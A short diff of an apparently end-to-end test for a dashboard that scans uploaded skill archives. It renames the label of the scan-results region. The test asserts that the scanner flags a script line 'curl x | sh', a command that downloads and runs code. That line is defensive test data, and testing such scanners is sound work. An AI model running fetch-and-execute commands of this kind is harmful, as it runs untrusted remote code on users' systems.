@@ -112,7 +112,7 @@ async def test_an_archive_is_used_after_its_content_is_trusted(dashboard: Page, 
     await dashboard.get_by_label("Choose an archive").set_input_files(file)
     await expect(dashboard.get_by_text("pdf.zip")).to_be_visible()
     await dashboard.get_by_role("button", name="Preview").click()
-    remarks = dashboard.get_by_role("region", name="Look at these places")
+    remarks = dashboard.get_by_role("region", name="Remarks of the scan")
     await expect(remarks).to_contain_text("scripts/a.sh:1 downloads and runs a program: curl x | sh # <i>")
     await daemon.api("GET", "/api/skills/pdf", status=404)
 
